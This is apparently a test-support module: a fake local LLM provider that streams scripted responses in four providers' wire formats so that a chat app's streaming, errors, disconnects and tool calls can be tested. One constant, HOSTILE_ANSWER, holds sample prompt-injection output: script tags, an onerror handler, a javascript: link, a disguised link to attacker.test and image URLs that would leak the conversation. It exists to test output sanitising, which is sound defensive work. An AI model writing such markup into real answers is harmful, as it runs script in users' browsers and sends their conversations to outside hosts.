"""A loopback model provider that streams like the real ones, in each family's wire format.

One server speaks four formats, each at the path LiteLLM calls when `LLM_API_BASE` is this
server's root URL:

- OpenAI chat completions (`POST /chat/completions`, SSE `data:` chunks, `[DONE]`), which
  OpenAI-compatible providers (groq, deepseek, xai, together, openrouter, ...) share;
- Anthropic messages (`POST /v1/messages`, SSE with `event:` names);
- Gemini (`POST /models/<model>:streamGenerateContent?alt=sse`);
- Ollama (`POST /api/chat`, newline-delimited JSON).

Each model name is a scripted behaviour (see `SCRIPTS`); each family is named by its LiteLLM
model prefix (`ollama_chat/fake-slow` streams from `/api/chat`). Every streamed request is recorded,
including how many tokens were sent and when the connection closed, so tests can prove that a
client's disconnect reached the provider. A request for a conversation's title (the app's
`titles.INSTRUCTION`) is answered with a title of its own and kept apart.
"""

import asyncio
import itertools
import json
import threading
import time
from collections.abc import AsyncIterator, Callable
from contextlib import contextmanager
from dataclasses import dataclass, field

from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import JSONResponse, StreamingResponse
from starlette.routing import Route

from {{ cookiecutter.package_name }} import titles

from .support import ThreadedServer, free_port

PROMPT_TOKENS = 7
_CALL_IDS = itertools.count(1)


@dataclass(frozen=True)
class Script:
    tokens: int = 10
    delay_s: float = 0.0  # before each token
    first_delay_s: float = 0.0  # before the first token, on top of delay_s
    fail_after: int | None = None  # break the stream after this many tokens, as `fault` says
    fault: str = "error"  # error: the format's error event | stall | reset | malformed
    status: int = 200  # a non-200 status refuses the request before streaming
    reasoning: int = 0  # reasoning tokens before the answer, for formats that have them
    token_chars: int = 0  # tokens of this many characters instead of `tok<i> `
    text: str = ""  # stream this text, two characters per token, instead of `tok<i> `
    # Call these tools (name, arguments as JSON text) instead of answering; once the request
    # brings their results, answer with the results' text (or call them again, `tools_forever`).
    tool_calls: tuple[tuple[str, str], ...] = ()
    tools_forever: bool = False
    answer_status: int = 200  # a non-200 status refuses the request that brings the results

    def piece(self, i: int) -> str:
        if self.text:
            return self.text[2 * i : 2 * i + 2]
        return "x" * self.token_chars if self.token_chars else token(i)


# Markdown whose code fence arrives over several tokens, as models send it.
MARKDOWN_ANSWER = (
    "Here is **the code**:\n\n```python\ndef greet(name):\n    return f'Hi {name}'\n```\n\n"
    "It returns a greeting."
)

# What a prompt injection could make a model write: raw HTML that would run script, a
# `javascript:` link, and images, one on a host the page allows (ANSWER_IMAGE_HOSTS in the
# browser suite) and one that would carry the conversation off to another host.
HOSTILE_ANSWER = (
    "Here is your chart:\n\n![chart](http://images.allowed.test/chart.png)\n\n"
    "![tracking pixel](http://attacker.test/leak.png?c=the+whole+conversation)\n\n"
    '<img src="http://attacker.test/raw.png" onerror="window.pwned = 1">\n\n'
    "<script>window.pwned = 2</script>\n\n"
    "[Click me](javascript:window.pwned=3) or read [the guide](https://docs.example.test/guide)"
    " or [docs.example.test](https://attacker.test/login).\n\n"
    "![another pixel](//attacker.test/pixel.gif)"
)


SCRIPTS = {
    "fake-fast": Script(tokens=20),
    "fake-vision": Script(tokens=5),  # the tests' model that reads images and PDFs
    "fake-slow": Script(tokens=40, delay_s=0.05),
    "fake-silent": Script(tokens=3, first_delay_s=1.5),
    "fake-fail-mid": Script(tokens=10, fail_after=5),
    "fake-think": Script(tokens=5, reasoning=3),
    "fake-401": Script(status=401),
    "fake-404": Script(status=404),
    "fake-429": Script(status=429),
    "fake-500": Script(status=500),
    "fake-503": Script(status=503),
    "fake-stall-first": Script(tokens=3, first_delay_s=30),
    "fake-stall-mid": Script(tokens=10, fail_after=3, fault="stall"),
    "fake-reset-mid": Script(tokens=10, fail_after=3, fault="reset"),
    "fake-malformed": Script(tokens=10, fail_after=3, fault="malformed"),
    "fake-huge": Script(tokens=2, token_chars=1_000_000),
    "fake-huge-slow": Script(tokens=20, token_chars=100_000, delay_s=0.2),  # 2 MB in 4 s
    "fake-long": Script(tokens=400, delay_s=0.05),
    "fake-steady": Script(tokens=100, delay_s=0.05),  # 5 s: time for a page to reload
    "fake-load": Script(tokens=20, delay_s=0.02),
    "fake-markdown": Script(
        tokens=(len(MARKDOWN_ANSWER) + 1) // 2, delay_s=0.03, text=MARKDOWN_ANSWER
    ),
    "fake-hostile": Script(tokens=(len(HOSTILE_ANSWER) + 1) // 2, text=HOSTILE_ANSWER),
    "fake-tool": Script(tool_calls=(("calculate", '{"expression": "6*7"}'),)),
    # The tools of the MCP servers in test_mcp.py.
    "fake-mcp": Script(tool_calls=(("mcp__notes__add_note", '{"text": "buy milk"}'),)),
    "fake-mcp-delete": Script(tool_calls=(("mcp__notes__delete_note", '{"number": 1}'),)),
    "fake-mcp-hang": Script(tool_calls=(("mcp__test__hang", "{}"),)),
    "fake-mcp-crash": Script(tool_calls=(("mcp__test__crash", "{}"),)),
    "fake-tools-2": Script(
        tool_calls=(("calculate", '{"expression": "6*7"}'), ("calculate", '{"expression": "2+2"}'))
    ),
    "fake-tool-raises": Script(tool_calls=(("calculate", '{"expression": "1/0"}'),)),
    "fake-tool-bad-arguments": Script(tool_calls=(("calculate", '{"expr": "6*7"}'),)),
    "fake-tool-slow": Script(tool_calls=(("calculate", '{"expression": "6*7"}'),), delay_s=0.4),
    "fake-tool-wait": Script(tool_calls=(("wait", '{"seconds": 30}'),)),
    "fake-tool-approval": Script(tool_calls=(("erase", '{"what": "notes"}'),)),
    "fake-tool-explode": Script(tool_calls=(("explode", "{}"),)),
    "fake-tool-then-429": Script(
        tool_calls=(("calculate", '{"expression": "6*7"}'),), answer_status=429
    ),
    "fake-tool-loop": Script(
        tool_calls=(("calculate", '{"expression": "1+1"}'),), tools_forever=True
    ),
    "fake-500-tokens": Script(tokens=500, delay_s=0.005),
    "fake-2000-tokens": Script(tokens=2000, delay_s=0.005),
}


class UpstreamReset(Exception):
    """Raised inside a stream to make the server drop the connection mid-body."""


def token(i: int) -> str:
    return f"tok{i} "


def thought(i: int) -> str:
    return f"think{i} "


def argument_pieces(arguments: str) -> list[str]:
    """Arguments as a model streams them, a few characters at a time."""
    return [arguments[i : i + 5] for i in range(0, len(arguments), 5)]


def tool_answer(results: list[str]) -> str:
    """What a tool-calling script answers once it has the tools' results."""
    return "The tools said: " + "; ".join(results)


def streamed_text(count: int) -> str:
    """The text of the first `count` tokens, as a client should assemble it."""
    return "".join(token(i) for i in range(count))


def reasoning_text(count: int) -> str:
    return "".join(thought(i) for i in range(count))


@dataclass
class Record:
    family: str
    model: str
    max_tokens: int | None = None
    messages: list[dict] = field(default_factory=list)  # as the OpenAI format sends them
    body: dict = field(default_factory=dict)  # the whole request, in its family's format
    tools: list[str] = field(default_factory=list)  # the names of the tools offered
    tool_results: list[str] = field(default_factory=list)  # the last turn's, as text
    sent: int = 0
    completed: bool = False
    closed_at: float | None = None
    closed: threading.Event = field(default_factory=threading.Event)

    def question(self) -> tuple[str, list[tuple[str, str]]]:
        """The last message's text and files, as its family's format carries them."""
        return FORMATS[self.family].question(self.body)


class WireFormat:
    """How one provider family frames a stream, its usage and its errors."""

    media_type = "text/event-stream"

    def start(self) -> list[bytes]:
        return []

    def reasoning(self, text: str) -> bytes:
        raise NotImplementedError

    def text(self, text: str) -> bytes:
        raise NotImplementedError

    def error(self) -> bytes:
        raise NotImplementedError

    def end(self, completion_tokens: int) -> list[bytes]:
        raise NotImplementedError

    def tool_calls(self, calls: list[tuple[str, str, str]]) -> list[bytes]:
        """Frames of the calls (id, name, arguments as JSON text), ending the stream."""
        raise NotImplementedError

    def refusal(self, status: int) -> JSONResponse:
        raise NotImplementedError

    @staticmethod
    def request_tools(body: dict) -> list[str]:
        return [tool["function"]["name"] for tool in body.get("tools") or []]

    @staticmethod
    def tool_results(body: dict) -> list[str]:
        """The results the request brings back, if its last turn is tool results."""
        return [message["content"] for message in _trailing_tool_messages(body)]

    @staticmethod
    def question(body: dict) -> tuple[str, list[tuple[str, str]]]:
        """The last message's text, and its files as (media type, base64 data), in the shape
        of this format (OpenAI's: `image_url` and `file` parts with data: URLs)."""
        content = body["messages"][-1]["content"]
        files = []
        for part in content if isinstance(content, list) else []:
            url = (part.get("image_url") or {}).get("url") or (part.get("file") or {}).get(
                "file_data"
            )
            if url:
                header, _, data = url.removeprefix("data:").partition(",")
                files.append((header.removesuffix(";base64"), data))
        return _text_of(content), files

    @staticmethod
    def results_match_calls(body: dict) -> bool:
        """Whether each result answers a call of the turn before, as providers require."""
        messages, results = body.get("messages") or [], _trailing_tool_messages(body)
        if not results:
            return True
        called = {call.get("id") for call in messages[-len(results) - 1].get("tool_calls") or []}
        return all(result.get("tool_call_id") in called for result in results)


def _sse(payload: dict, event: str | None = None) -> bytes:
    head = f"event: {event}\n" if event else ""
    return f"{head}data: {json.dumps(payload)}\n\n".encode()


def _usage(completion_tokens: int) -> dict:
    return {
        "prompt_tokens": PROMPT_TOKENS,
        "completion_tokens": completion_tokens,
        "total_tokens": PROMPT_TOKENS + completion_tokens,
    }


_ERROR_TYPES = {401: "invalid_api_key", 404: "model_not_found", 429: "rate_limit_exceeded"}


def _retry_after(status: int) -> dict:
    return {"retry-after": "7"} if status == 429 else {}


class OpenAIFormat(WireFormat):
    def __init__(self, include_usage: bool):
        self.include_usage = include_usage

    def reasoning(self, text: str) -> bytes:
        return _sse(self._chunk({"reasoning_content": text}))

    def text(self, text: str) -> bytes:
        return _sse(self._chunk({"content": text}))

    def error(self) -> bytes:
        return _sse({"error": {"message": "upstream exploded", "type": "server_error"}})

    def end(self, completion_tokens: int) -> list[bytes]:
        frames = [_sse(self._chunk({}, finish_reason="stop"))]
        if self.include_usage:
            frames.append(
                _sse({**self._chunk({}), "choices": [], "usage": _usage(completion_tokens)})
            )
        return [*frames, b"data: [DONE]\n\n"]

    def tool_calls(self, calls: list[tuple[str, str, str]]) -> list[bytes]:
        frames = []
        for index, (call_id, name, arguments) in enumerate(calls):
            function = {"name": name, "arguments": ""}
            first = {"index": index, "id": call_id, "type": "function", "function": function}
            frames.append(_sse(self._chunk({"role": "assistant", "tool_calls": [first]})))
            for piece in argument_pieces(arguments):
                more = {"index": index, "function": {"arguments": piece}}
                frames.append(_sse(self._chunk({"tool_calls": [more]})))
        frames.append(_sse(self._chunk({}, finish_reason="tool_calls")))
        if self.include_usage:
            frames.append(_sse({**self._chunk({}), "choices": [], "usage": _usage(len(calls))}))
        return [*frames, b"data: [DONE]\n\n"]

    def refusal(self, status: int) -> JSONResponse:
        error = {
            "message": f"fake refusal {status}",
            "type": _ERROR_TYPES.get(status, "server_error"),
        }
        return JSONResponse({"error": error}, status_code=status, headers=_retry_after(status))

    @staticmethod
    def _chunk(delta: dict, finish_reason: str | None = None) -> dict:
        return {
            "id": "chatcmpl-fake",
            "object": "chat.completion.chunk",
            "created": int(time.time()),
            "model": "fake",
            "choices": [{"index": 0, "delta": delta, "finish_reason": finish_reason}],
        }


class AnthropicFormat(WireFormat):
    """Messages API events: one content block per kind (thinking, then text)."""

    def __init__(self) -> None:
        self._block: tuple[int, str] | None = None  # (index, kind) of the open block

    def start(self) -> list[bytes]:
        message = {
            "id": "msg_fake",
            "type": "message",
            "role": "assistant",
            "content": [],
            "model": "fake",
            "stop_reason": None,
            "stop_sequence": None,
            "usage": {"input_tokens": PROMPT_TOKENS, "output_tokens": 1},
        }
        return [_sse({"type": "message_start", "message": message}, "message_start")]

    def reasoning(self, text: str) -> bytes:
        return self._delta("thinking", {"type": "thinking_delta", "thinking": text})

    def text(self, text: str) -> bytes:
        return self._delta("text", {"type": "text_delta", "text": text})

    def error(self) -> bytes:
        error = {"type": "overloaded_error", "message": "upstream exploded"}
        return _sse({"type": "error", "error": error}, "error")

    def end(self, completion_tokens: int) -> list[bytes]:
        delta = {"stop_reason": "end_turn", "stop_sequence": None}
        usage = {"output_tokens": completion_tokens}
        return [
            self._close_block(),
            _sse({"type": "message_delta", "delta": delta, "usage": usage}, "message_delta"),
            _sse({"type": "message_stop"}, "message_stop"),
        ]

    def tool_calls(self, calls: list[tuple[str, str, str]]) -> list[bytes]:
        frames = [self._close_block()]
        first = 0 if self._block is None else self._block[0] + 1
        for index, (call_id, name, arguments) in enumerate(calls, start=first):
            block = {"type": "tool_use", "id": call_id, "name": name, "input": {}}
            start = {"type": "content_block_start", "index": index, "content_block": block}
            frames.append(_sse(start, "content_block_start"))
            for piece in argument_pieces(arguments):
                delta = {"type": "input_json_delta", "partial_json": piece}
                event = {"type": "content_block_delta", "index": index, "delta": delta}
                frames.append(_sse(event, "content_block_delta"))
            frames.append(
                _sse({"type": "content_block_stop", "index": index}, "content_block_stop")
            )
        delta = {"stop_reason": "tool_use", "stop_sequence": None}
        usage = {"output_tokens": len(calls)}
        return [
            *frames,
            _sse({"type": "message_delta", "delta": delta, "usage": usage}, "message_delta"),
            _sse({"type": "message_stop"}, "message_stop"),
        ]

    @staticmethod
    def request_tools(body: dict) -> list[str]:
        return [tool["name"] for tool in body.get("tools") or []]

    @staticmethod
    def question(body: dict) -> tuple[str, list[tuple[str, str]]]:
        """`image` and `document` blocks with base64 sources."""
        content = body["messages"][-1]["content"]
        blocks = content if isinstance(content, list) else []
        sources = [block["source"] for block in blocks if block["type"] in ("image", "document")]
        return _text_of(content), [(source["media_type"], source["data"]) for source in sources]

    @staticmethod
    def tool_results(body: dict) -> list[str]:
        last = (body.get("messages") or [{}])[-1]
        blocks = last.get("content") if last.get("role") == "user" else None
        if not isinstance(blocks, list):
            return []
        return [_text_of(block["content"]) for block in blocks if block["type"] == "tool_result"]

    @staticmethod
    def results_match_calls(body: dict) -> bool:
        messages = body.get("messages") or []
        if len(messages) < 2:
            return True

        def blocks(message: dict, kind: str) -> list[dict]:
            content = message.get("content")
            return [b for b in content if b["type"] == kind] if isinstance(content, list) else []

        called = {block["id"] for block in blocks(messages[-2], "tool_use")}
        return all(block["tool_use_id"] in called for block in blocks(messages[-1], "tool_result"))

    def refusal(self, status: int) -> JSONResponse:
        kinds = {401: "authentication_error", 404: "not_found_error", 429: "rate_limit_error"}
        error = {"type": kinds.get(status, "api_error"), "message": f"fake refusal {status}"}
        body = {"type": "error", "error": error}
        return JSONResponse(body, status_code=status, headers=_retry_after(status))

    def _delta(self, kind: str, delta: dict) -> bytes:
        frames = b""
        if self._block is None or self._block[1] != kind:
            index = 0 if self._block is None else self._block[0] + 1
            frames += self._close_block()
            self._block = (index, kind)
            block = (
                {"type": "thinking", "thinking": ""}
                if kind == "thinking"
                else {"type": kind, "text": ""}
            )
            start = {"type": "content_block_start", "index": index, "content_block": block}
            frames += _sse(start, "content_block_start")
        delta_event = {"type": "content_block_delta", "index": self._block[0], "delta": delta}
        return frames + _sse(delta_event, "content_block_delta")

    def _close_block(self) -> bytes:
        if self._block is None:
            return b""
        stop = {"type": "content_block_stop", "index": self._block[0]}
        return _sse(stop, "content_block_stop")


class GeminiFormat(WireFormat):
    """`streamGenerateContent?alt=sse`: each event a whole response with the new parts."""

    def reasoning(self, text: str) -> bytes:
        return _sse(self._response([{"text": text, "thought": True}]))

    def text(self, text: str) -> bytes:
        return _sse(self._response([{"text": text}]))

    def error(self) -> bytes:
        return _sse({"error": {"code": 500, "message": "upstream exploded", "status": "INTERNAL"}})

    def end(self, completion_tokens: int) -> list[bytes]:
        usage = {
            "promptTokenCount": PROMPT_TOKENS,
            "candidatesTokenCount": completion_tokens,
            "totalTokenCount": PROMPT_TOKENS + completion_tokens,
        }
        return [_sse(self._response([{"text": ""}], finish_reason="STOP", usage=usage))]

    def tool_calls(self, calls: list[tuple[str, str, str]]) -> list[bytes]:
        """Gemini sends each call whole, all of a step's in one event."""
        parts = [
            {"functionCall": {"name": name, "args": json.loads(arguments)}}
            for _, name, arguments in calls
        ]
        return [_sse(self._response(parts, finish_reason="STOP"))]

    @staticmethod
    def request_tools(body: dict) -> list[str]:
        return [
            declaration["name"]
            for tool in body.get("tools") or []
            for declaration in tool.get("function_declarations") or tool.get("functionDeclarations")
        ]

    @staticmethod
    def question(body: dict) -> tuple[str, list[tuple[str, str]]]:
        """`inline_data` parts (snake_case or camelCase)."""
        parts = body["contents"][-1]["parts"]
        inline = [part.get("inline_data") or part.get("inlineData") for part in parts]
        files = [
            (data.get("mime_type") or data["mimeType"], data["data"]) for data in inline if data
        ]
        return "".join(part.get("text", "") for part in parts), files

    @staticmethod
    def tool_results(body: dict) -> list[str]:
        parts = (body.get("contents") or [{}])[-1].get("parts") or []
        responses = [
            part.get("function_response") or part.get("functionResponse") for part in parts
        ]
        return [json.dumps(response["response"]) for response in responses if response]

    @staticmethod
    def results_match_calls(body: dict) -> bool:
        """Gemini pairs a function's response with its call by name."""
        contents = body.get("contents") or []
        if len(contents) < 2:
            return True

        def names(content: dict, *keys: str) -> set[str]:  # snake_case or camelCase
            found = [next(filter(None, map(part.get, keys)), None) for part in content["parts"]]
            return {item["name"] for item in found if item}

        responses = names(contents[-1], "function_response", "functionResponse")
        return responses <= names(contents[-2], "function_call", "functionCall")

    def refusal(self, status: int) -> JSONResponse:
        statuses = {401: "UNAUTHENTICATED", 404: "NOT_FOUND", 429: "RESOURCE_EXHAUSTED"}
        error = {
            "code": status,
            "message": f"fake refusal {status}",
            "status": statuses.get(status, "INTERNAL"),
        }
        return JSONResponse({"error": error}, status_code=status, headers=_retry_after(status))

    @staticmethod
    def _response(parts: list[dict], finish_reason: str | None = None, usage=None) -> dict:
        candidate = {"content": {"parts": parts, "role": "model"}, "index": 0}
        if finish_reason:
            candidate["finishReason"] = finish_reason
        usage = usage or {"promptTokenCount": PROMPT_TOKENS, "totalTokenCount": PROMPT_TOKENS}
        return {"candidates": [candidate], "usageMetadata": usage, "modelVersion": "fake"}


class OllamaFormat(WireFormat):
    """`/api/chat`: one JSON object per line, the last with `done` and the token counts."""

    media_type = "application/x-ndjson"

    @staticmethod
    def question(body: dict) -> tuple[str, list[tuple[str, str]]]:
        """Images as a list of base64 data beside the text, which has no media type."""
        message = body["messages"][-1]
        return message["content"], [("", data) for data in message.get("images") or []]

    def reasoning(self, text: str) -> bytes:
        return self._line({"role": "assistant", "content": "", "thinking": text}, done=False)

    def text(self, text: str) -> bytes:
        return self._line({"role": "assistant", "content": text}, done=False)

    def error(self) -> bytes:
        return json.dumps({"error": "upstream exploded"}).encode() + b"\n"

    def end(self, completion_tokens: int) -> list[bytes]:
        counts = {"prompt_eval_count": PROMPT_TOKENS, "eval_count": completion_tokens}
        message = {"role": "assistant", "content": ""}
        return [self._line(message, done=True, done_reason="stop", **counts)]

    def tool_calls(self, calls: list[tuple[str, str, str]]) -> list[bytes]:
        """Ollama sends each call whole, with its arguments as an object."""
        message = {
            "role": "assistant",
            "content": "",
            "tool_calls": [
                {"function": {"name": name, "arguments": json.loads(arguments)}}
                for _, name, arguments in calls
            ],
        }
        counts = {"prompt_eval_count": PROMPT_TOKENS, "eval_count": len(calls)}
        done = {"role": "assistant", "content": ""}
        return [
            self._line(message, done=False),
            self._line(done, done=True, done_reason="stop", **counts),
        ]

    def refusal(self, status: int) -> JSONResponse:
        return JSONResponse({"error": f"fake refusal {status}"}, status_code=status)

    @staticmethod
    def _line(message: dict, **fields) -> bytes:
        line = {"model": "fake", "created_at": "2026-01-01T00:00:00Z", "message": message}
        return json.dumps({**line, **fields}).encode() + b"\n"


def _trailing_tool_messages(body: dict) -> list[dict]:
    messages = body.get("messages") or []
    return list(itertools.takewhile(lambda m: m.get("role") == "tool", messages[::-1]))[::-1]


def _text_of(content: str | list) -> str:
    if isinstance(content, str):
        return content
    return "".join(block.get("text", "") for block in content)


FORMATS: dict[str, type[WireFormat]] = {
    "openai": OpenAIFormat,
    "anthropic": AnthropicFormat,
    "gemini": GeminiFormat,
    "ollama_chat": OllamaFormat,
}


# Each family's way to name the model of a request, and a new encoder for its stream.
WireFormatOf = Callable[[Request, dict], tuple[str, WireFormat]]


def _openai(_: Request, body: dict) -> tuple[str, WireFormat]:
    include_usage = (body.get("stream_options") or {}).get("include_usage", False)
    return body["model"], OpenAIFormat(include_usage)


def _anthropic(_: Request, body: dict) -> tuple[str, WireFormat]:
    return body["model"], AnthropicFormat()


def _gemini(request: Request, _: dict) -> tuple[str, WireFormat]:
    return request.path_params["model"], GeminiFormat()


def _ollama(_: Request, body: dict) -> tuple[str, WireFormat]:
    return body["model"], OllamaFormat()


class FakeUpstream:
    def __init__(self, also_fast: str = "") -> None:
        """`also_fast`: a real model's name, answered like `fake-fast`."""
        self.scripts = SCRIPTS | ({also_fast: SCRIPTS["fake-fast"]} if also_fast else {})
        self.records: list[Record] = []
        self.titles: list[str] = []  # the titles it gave (see `_endpoint`)
        self.port = free_port()
        self.base_url = f"http://127.0.0.1:{self.port}"
        routes = [
            Route(path, self._endpoint(family, wire_format), methods=["POST"])
            for path, family, wire_format in [
                ("/chat/completions", "openai", _openai),
                ("/v1/chat/completions", "openai", _openai),
                ("/v1/messages", "anthropic", _anthropic),
                ("/models/{model}:streamGenerateContent", "gemini", _gemini),
                ("/api/chat", "ollama_chat", _ollama),
            ]
        ]
        self._server = ThreadedServer(Starlette(routes=routes), self.port)

    def start(self) -> "FakeUpstream":
        self._server.start("the fake upstream listens")
        return self

    def stop(self) -> None:
        self._server.stop()

    def last(self, model: str, family: str = "openai") -> Record:
        return next(r for r in reversed(self.records) if (r.family, r.model) == (family, model))

    def _endpoint(self, family: str, wire_format: WireFormatOf):
        async def endpoint(request: Request):
            body = await request.json()
            model, wire = wire_format(request, body)
            script = self.scripts[model]
            if script.status != 200:
                return wire.refusal(script.status)
            if titles.INSTRUCTION in json.dumps(body):
                # A conversation's title: the question's last words, quoted as models do; kept
                # apart from `records`, which hold the answers tests look at.
                asked, _ = FORMATS[family].question(body)
                question = asked.partition("Request: ")[2].rpartition("\n\nTitle:")[0]
                self.titles.append(" ".join(question.split()[-4:]))
                text = f'Title: "{self.titles[-1]}"'
                return StreamingResponse(
                    _answering(text, wire, Record(family, model)), media_type=wire.media_type
                )
            record = Record(
                family=family,
                model=model,
                max_tokens=body.get("max_tokens"),
                messages=body.get("messages") or [],
                body=body,
                tools=wire.request_tools(body),
                tool_results=wire.tool_results(body),
            )
            self.records.append(record)
            if record.tool_results and not wire.results_match_calls(body):
                return wire.refusal(400)  # a result for a call that was never made
            if record.tool_results and script.answer_status != 200:
                return wire.refusal(script.answer_status)
            if script.tool_calls and (script.tools_forever or not record.tool_results):
                frames = _calling_tools(script, wire, record)
            elif script.tool_calls:
                frames = _answering(tool_answer(record.tool_results), wire, record)
            else:
                frames = _stream(script, wire, record)
            return StreamingResponse(frames, media_type=wire.media_type)

        return endpoint


async def _stream(script: Script, wire: WireFormat, record: Record) -> AsyncIterator[bytes]:
    with _recording(record):
        for frame in wire.start():
            yield frame
        for i in range(script.reasoning):
            yield wire.reasoning(thought(i))
        await asyncio.sleep(script.first_delay_s)
        for i in range(script.tokens):
            if i == script.fail_after:
                async for frame in _break(script.fault, wire):
                    yield frame
                return
            await asyncio.sleep(script.delay_s)
            yield wire.text(script.piece(i))
            record.sent += 1
        for frame in wire.end(script.reasoning + script.tokens):
            yield frame
        record.completed = True


async def _calling_tools(script: Script, wire: WireFormat, record: Record):
    """The script's tool calls, a frame at a time, `delay_s` apart."""
    calls = [(f"call_{next(_CALL_IDS)}", name, arguments) for name, arguments in script.tool_calls]
    with _recording(record):
        for frame in [*wire.start(), *wire.tool_calls(calls)]:
            await asyncio.sleep(script.delay_s)
            yield frame
        record.completed = True


@contextmanager
def _recording(record: Record):
    """Note when the stream ended, however it did (the client may have left)."""
    try:
        yield
    finally:
        record.closed_at = time.monotonic()
        record.closed.set()


async def _answering(text: str, wire: WireFormat, record: Record):
    script = Script(tokens=(len(text) + 1) // 2, text=text)
    async for frame in _stream(script, wire, record):
        yield frame


async def _break(fault: str, wire: WireFormat) -> AsyncIterator[bytes]:
    match fault:
        case "error":
            yield wire.error()
        case "stall":
            await asyncio.sleep(3600)  # until the client gives up
        case "reset":
            raise UpstreamReset  # uvicorn drops the connection without ending the body
        case "malformed":
            yield b"data: {not json\n\n"


class ClosingReusedConnections:
    """An OpenAI-format provider that answers the first request on each connection, then closes
    the connection unanswered when a second request arrives on it: an idle keep-alive
    connection the provider closed just as a pooled client reused it, every time instead of
    once in a few hundred. The model `fake-500` is refused with a 500 (that one reached it);
    `fake-slow` is answered after half a second, so that requests sent together overlap."""

    ANSWER_TOKENS = 5

    def __init__(self) -> None:
        self.port = free_port()
        self.base_url = f"http://127.0.0.1:{self.port}"
        self.answered = self.dropped = self.refused = 0
        self.connections = 0  # open now: each closes when it is reused
        self._loop = asyncio.new_event_loop()
        self._thread = threading.Thread(target=self._loop.run_forever, daemon=True)

    def start(self) -> "ClosingReusedConnections":
        self._thread.start()
        serving = asyncio.start_server(self._connection, "127.0.0.1", self.port)
        self._server = asyncio.run_coroutine_threadsafe(serving, self._loop).result(timeout=10)
        return self

    def stop(self) -> None:
        self._loop.call_soon_threadsafe(self._server.close)
        self._loop.call_soon_threadsafe(self._loop.stop)
        self._thread.join(timeout=10)

    async def _connection(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter):
        self.connections += 1
        try:
            answered_here = False
            while (body := await _request_body(reader)) is not None:
                if answered_here:
                    self.dropped += 1
                    return
                answered_here = True
                model = json.loads(body)["model"]
                if model == "fake-slow":
                    await asyncio.sleep(0.5)
                writer.write(self._response(model))
                await writer.drain()
        finally:
            self.connections -= 1
            writer.close()

    def _response(self, model: str) -> bytes:
        if model == "fake-500":
            self.refused += 1
            error = json.dumps({"error": {"message": "fake refusal 500", "type": "server_error"}})
            return _http_response(500, "application/json", error.encode())
        self.answered += 1
        wire = OpenAIFormat(include_usage=True)
        frames = [wire.text(token(i)) for i in range(self.ANSWER_TOKENS)]
        return _http_response(200, wire.media_type, b"".join(frames + wire.end(self.ANSWER_TOKENS)))


async def _request_body(reader: asyncio.StreamReader) -> bytes | None:
    """The next HTTP/1.1 request's body on a connection; None once the client has closed it."""
    try:
        head = await reader.readuntil(b"\r\n\r\n")
    except (asyncio.IncompleteReadError, ConnectionError):
        return None
    lines = head.decode("latin-1").lower().split("\r\n")
    lengths = [int(line.split(":")[1]) for line in lines if line.startswith("content-length:")]
    return await reader.readexactly(lengths[0] if lengths else 0)


def _http_response(status: int, media_type: str, body: bytes) -> bytes:
    head = f"HTTP/1.1 {status} X\r\ncontent-type: {media_type}\r\ncontent-length: {len(body)}"
    return head.encode() + b"\r\n\r\n" + body
